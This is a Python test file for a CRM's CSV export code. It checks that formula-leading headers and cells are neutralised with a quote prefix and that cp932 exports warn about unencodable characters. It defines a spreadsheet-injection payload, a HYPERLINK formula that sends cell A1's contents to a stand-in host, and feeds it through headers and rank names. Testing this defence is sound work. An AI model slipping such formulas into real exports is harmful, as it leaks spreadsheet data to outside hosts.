"""CSV downloads: headers are formula-neutralised like cells; cp932 exports say which characters became ?."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from crm_core.analytics import value as analytics
from crm_core.db import Store
from crm_core.export import cp932_unencodable, to_csv_bytes
from crm_core.pipeline import import_files
from tests import fixtures as fx

ROOT = Path(__file__).resolve().parents[1]
EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"ゴールド")'


def _header(data: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_headers_are_neutralised_like_cells():
    df = pd.DataFrame({"移動元": ["+ブロンズ"], EVIL: [3], "@SUM(1)": [1], "－1": [2]})
    data = to_csv_bytes(df)
    assert _header(data) == ["移動元", "'" + EVIL, "'@SUM(1)", "'－1"]
    assert data.decode("utf-8-sig").split("\r\n")[1].startswith("'+ブロンズ")


def test_rank_movement_download_with_a_formula_rank_name(tmp_path):
    store = Store(tmp_path / "crm.duckdb")
    import_files(store, [fx.rakuten_current(tmp_path / "r.csv")])
    moves = analytics.rank_movement(store, "2025-01-31", "2025-03-31", thresholds=((EVIL, 5000), ("-一般", 0)))
    assert {EVIL, "-一般"} <= set(moves["to_rank"])
    # the download the analytics page offers: ranks become the column headers
    matrix = moves.pivot(index="from_rank", columns="to_rank", values="customers").reset_index()
    header = _header(to_csv_bytes(matrix))
    assert "'" + EVIL in header and "'-一般" in header
    assert not any(name.startswith(("=", "-", "+", "@")) for name in header)


def test_cp932_unencodable_sees_headers_and_cells():
    df = pd.DataFrame({"名前😀": ["𠮷田", "é", None, "髙橋"]})
    assert cp932_unencodable(df) == {"😀", "𠮷", "é"}


@pytest.mark.slow
def test_cli_customers_cp932_warns_like_segment_export(tmp_path):
    rows = fx.shopify_rows()
    rows[0] = {**rows[0], "Billing Name": "𠮷田 é😀"}
    path = fx.write_csv(tmp_path / "s.csv", list(rows[0]), rows, "utf-8-sig", quote_all=False)
    db = tmp_path / "crm.duckdb"
    env = {"PATH": "/usr/bin:/bin", "CRM_NO_SAMPLE": "1"}
    imp = subprocess.run([sys.executable, "-m", "crm_core", "import", str(path), "--db", str(db)], cwd=ROOT,
                         capture_output=True, text=True, timeout=300, env=env)
    assert imp.returncode == 0, imp.stderr
    out = tmp_path / "c.csv"
    res = subprocess.run([sys.executable, "-m", "crm_core", "customers", "--out", str(out), "--encoding", "cp932",
                          "--db", str(db)], cwd=ROOT, capture_output=True, text=True, timeout=300, env=env)
    assert res.returncode == 0, res.stderr
    report = json.loads(res.stdout)
    assert report["warnings"], report
    for ch in ("𠮷", "é", "😀"):
        assert ch in report["warnings"][0]
    assert "?田 ??" in out.read_bytes().decode("cp932")
    utf8 = subprocess.run([sys.executable, "-m", "crm_core", "customers", "--out", str(tmp_path / "u.csv"), "--db", str(db)],
                          cwd=ROOT, capture_output=True, text=True, timeout=300, env=env)
    assert "warnings" not in json.loads(utf8.stdout)
